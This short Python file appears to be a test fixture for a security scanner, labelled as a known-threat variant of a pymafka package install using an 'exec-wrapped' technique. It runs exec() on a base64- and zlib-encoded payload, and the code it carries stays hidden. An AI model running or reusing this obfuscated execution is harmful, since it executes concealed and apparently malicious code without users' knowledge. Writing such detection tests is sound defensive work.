# expect: BLOCKED category: known_threat variant-of: risky/known_threat/pip_install_pymafka.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxFjkEKgzAQRfc5xaAbBRts6KrgsoueoZQSQ8SgScZkAvX2TattN/OZ92Dml3B1keQ8R8DVymGSDdCoQbRCAK3o45IkgR+ynjad15AckLGaM2PRB4KYegxe6Rh/ZI2M/TFXo1bTQ+VP1S07rp9aJZL9rBsoDrbIEw2+w2yFPmSr1HVH3hb3+nt7xwAlOL/IM1xOrWAMg3FU7bJ+AWBPSb0=')))
